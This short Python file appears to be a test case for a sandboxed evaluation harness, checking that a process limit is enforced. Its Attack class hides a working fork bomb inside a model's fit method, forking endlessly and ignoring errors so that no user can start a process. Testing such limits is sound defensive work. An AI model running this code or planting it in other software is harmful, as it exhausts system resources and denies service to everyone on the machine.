"""Forks, and every fork forks.

Hopes that no user can start a process any more.
"""

import os

from _base import Ignorant

VERDICT = {"status": "process-limit"}
OPTIONS = {"limits": "tight"}


class Attack(Ignorant):
    def fit(self, train, valid, report):
        while True:
            try:
                os.fork()
            except OSError:
                pass
